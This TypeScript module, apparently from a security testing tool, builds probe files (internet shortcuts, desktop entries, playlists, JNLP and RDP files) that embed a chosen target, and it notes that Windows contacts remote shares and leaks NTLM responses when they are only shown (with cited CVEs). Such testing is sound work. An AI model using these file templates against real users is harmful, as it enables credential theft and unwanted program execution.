// Shortcuts, libraries, playlists and connections: files that are nothing but a way to somewhere else. Windows asks some of the hosts before
// anything is opened, when the folder that the file was saved to is shown.

import type { Hit, Vector } from "../model/vector.ts";
import { type FileProbe, inFile } from "./build/file-construct.ts";
import { findHost } from "./build/host-target.ts";
import { escapeAttribute } from "./build/markup.ts";
import { NOTHING } from "./build/target.ts";
import { cutCommand } from "./microsyntax/command.ts";
import { cutIconPath } from "./microsyntax/icon-path.ts";

function internetShortcut(line: string): FileProbe {
	return { name: "page.url", mediaType: "application/x-mswinurl", content: `[InternetShortcut]\r\n${line}\r\n` };
}

function desktopEntry(line: string): FileProbe {
	return {
		name: "app.desktop",
		mediaType: "application/x-desktop",
		content: `[Desktop Entry]\r\nType=Application\r\nName=Report\r\n${line}\r\n`,
	};
}

function playlist(body: string): FileProbe {
	const content = `<?xml version="1.0" encoding="us-ascii"?>\r\n<playlist version="1" xmlns="http://xspf.org/ns/0/"><trackList><track>${body}</track></trackList></playlist>\r\n`;
	return { name: "list.xspf", mediaType: "application/xspf+xml", content };
}

export const vectors: readonly Vector[] = [
	inFile({
		id: "shortcut-target",
		title: "target of a shortcut",
		on: ["shortcut target"],
		why: "Opening the shortcut opens it; Windows may ask a share for it, with an NTLM response, when the folder is shown.",
		probe: (target) => internetShortcut(`URL=${target}`),
	}),
	inFile({
		id: "shortcut-icon",
		title: "icon of a shortcut, picture of a theme",
		on: ["shortcut icon"],
		cut: cutIconPath,
		why: "Windows fetches it when the folder that the file lies in is shown, from a share with an NTLM response (CVE-2024-21320).",
		probe: (target) => internetShortcut(`URL=about:blank\r\nIconIndex=1\r\nIconFile=${target},0`),
	}),
	inFile({
		id: "shortcut-location",
		title: "place named by a shortcut, library or search",
		on: ["shortcut location"],
		why: "Windows asks the place when the file is opened, or only shown or unpacked (CVE-2025-24054, CVE-2025-33053).",
		probe: (target) => internetShortcut(`URL=about:blank\r\nWorkingDirectory=${target}`),
	}),
	inFile({
		id: "shortcut-command",
		title: "command of a shortcut",
		on: ["shortcut command"],
		cut: cutCommand,
		why: "Opening the shortcut starts a program with it.",
		probe: (target) => desktopEntry(`Exec=${target}`),
	}),
	inFile({
		id: "playlist-entry",
		title: "entry of a playlist",
		on: ["playlist entry"],
		why: "The player fetches it when the playlist is opened; a share is asked with an NTLM response.",
		probe: (target) => playlist(`<location>${escapeAttribute(target)}</location>`),
	}),
	inFile({
		id: "playlist-link",
		title: "link in a playlist",
		on: ["playlist link"],
		trigger: "click",
		why: "Clicking it in the player opens it.",
		probe: (target) => playlist(`<info>${escapeAttribute(target)}</info>`),
	}),
	inFile({
		id: "program-source",
		title: "source of a program",
		on: ["program source"],
		why: "Java Web Start, ClickOnce or App Installer fetches the program from there when the file is opened.",
		probe: (target) => ({
			name: "app.jnlp",
			mediaType: "application/x-java-jnlp-file",
			content: `<?xml version="1.0" encoding="us-ascii"?>\r\n<jnlp spec="1.0+" codebase="${escapeAttribute(target)}"></jnlp>\r\n`,
		}),
	}),
	{
		id: "remote-desktop",
		title: "host of a Remote Desktop connection",
		trigger: "attachment",
		channel: "dns",
		why: "Opening the file looks the host up and connects to it by Remote Desktop.",
		watches: [{ kind: "file", construct: "remote desktop host" }],
		find: (hit: Hit) => (hit.kind === "file" ? findHost(hit.text()) : NOTHING),
		probe: (target) => ({
			kind: "file",
			shown: false,
			name: "desk.rdp",
			mediaType: "application/x-rdp",
			content: `screen mode id:i:2\r\nfull address:s:${new URL(target).hostname}\r\n`,
		}),
	},
];
